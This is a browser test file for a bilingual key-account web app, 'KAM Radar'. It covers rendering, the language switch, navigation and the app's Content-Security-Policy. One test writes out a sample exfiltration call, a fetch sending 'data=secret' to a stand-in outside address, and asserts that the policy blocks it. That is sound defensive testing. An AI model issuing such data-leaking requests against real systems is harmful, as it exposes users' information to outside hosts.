// The app shell in Chromium against the built dist/: it mounts, speaks both languages and
// remembers the choice, navigates with reload-proof URLs, and never contacts another origin.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';

import { DIST, foreignRequests, openPage } from '../support/browser.mjs';
import { KamApp } from '../support/app.mjs';
import { appSuite } from '../support/suite.mjs';
import { serveStatic } from '../support/server.mjs';

const ENGLISH_NAV = ['Import', 'Portfolio', 'Accounts', 'Stakeholders', 'Frameworks'];
const CHINESE_NAV = ['导入', '客户组合', '客户', '客户人员', '评估框架'];

describe('app shell', () => {
  const suite = appSuite();
  const session = (...args) => suite.session(...args);

  test('mounts and shows the header, navigation and first-visit screen', async () => {
    await session({ locale: 'en-US' }, async (app, page) => {
      await app.open(suite.server.url);
      assert.equal(await app.name.innerText(), 'KAM Radar');
      assert.deepEqual(await app.navTexts(), ENGLISH_NAV);
      assert.equal(await page.locator('#boot').count(), 0, 'the loading text is gone');
      await page.getByTestId('drop-zone').waitFor();
      await page.getByTestId('load-demo').waitFor();
    });
  });

  test('starts in Chinese when the browser prefers Chinese', async () => {
    await session({ locale: 'zh-CN' }, async (app, page) => {
      await app.open(suite.server.url);
      assert.equal(await app.name.innerText(), '大客户雷达');
      assert.deepEqual(await app.navTexts(), CHINESE_NAV);
      assert.equal(await page.getAttribute('html', 'lang'), 'zh-CN');
    });
  });

  test('the language switch changes every string and the choice survives a reload', async () => {
    await session({ locale: 'en-US' }, async (app, page) => {
      await app.open(suite.server.url);
      const englishText = await page.locator('body').innerText();
      await app.languageSwitch.click();
      assert.equal(await app.name.innerText(), '大客户雷达');
      assert.deepEqual(await app.navTexts(), CHINESE_NAV);
      const chineseText = await page.locator('body').innerText();
      // No English sentence of the interface may survive the switch.
      for (const line of englishText.split('\n').filter((l) => l.trim().length > 3)) {
        assert.ok(!chineseText.includes(line.trim()), `still in English after the switch: ${line}`);
      }

      await app.reload();
      assert.equal(await app.name.innerText(), '大客户雷达', 'the choice survives a reload');
      assert.equal(await page.getAttribute('html', 'lang'), 'zh-CN');

      await app.languageSwitch.click();
      assert.equal(await app.name.innerText(), 'KAM Radar');
      await app.reload();
      assert.equal(await app.name.innerText(), 'KAM Radar');
      assert.deepEqual(await app.navTexts(), ENGLISH_NAV);
    });
  });

  test('every view is reachable, has an empty state, and survives a reload', async () => {
    await session({ locale: 'en-US' }, async (app, page) => {
      await app.open(suite.server.url);
      for (const name of ENGLISH_NAV) {
        await app.navLink(name).click();
        const id = name.toLowerCase();
        await page.getByTestId(`view-${id}`).waitFor();
        assert.equal(new URL(page.url()).hash, `#/${id}`);
        assert.equal(await app.navLink(name).getAttribute('aria-current'), 'page');
      }
      await app.reload();
      await page.getByTestId('view-frameworks').waitFor();
      await page.goBack();
      await page.getByTestId('view-stakeholders').waitFor();
    });
  });

  test('the Content-Security-Policy refuses connections to any other origin', async () => {
    await session({ locale: 'en-US' }, async (app, page) => {
      await app.open(suite.server.url);
      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      assert.match(csp, /default-src 'self'/);
      assert.match(csp, /connect-src 'self'/);
      const outcome = await page.evaluate(async () => {
        try {
          await fetch('http://192.0.2.1/leak?data=secret');
          return 'sent';
        } catch (error) {
          return 'refused';
        }
      });
      assert.equal(outcome, 'refused');
      // Chromium reports the refusal on the console: the one error this test expects.
    }, /Content Security Policy|Refused to connect|Failed to fetch/);
  });

  test('works from a subpath of a static host', async () => {
    const nested = await serveStatic(DIST, '/tools/kam/');
    try {
      const { context, page, requests } = await openPage(suite.browser, { locale: 'en-US' });
      const app = new KamApp(page);
      await app.open(nested.url + '#/portfolio');
      await page.getByTestId('view-portfolio').waitFor();
      assert.deepEqual(foreignRequests(requests, nested.origin), []);
      assert.ok(requests.every((url) => !url.startsWith(nested.origin) || new URL(url).pathname.startsWith('/tools/kam/')));
      await context.close();
    } finally {
      await nested.close();
    }
  });
});
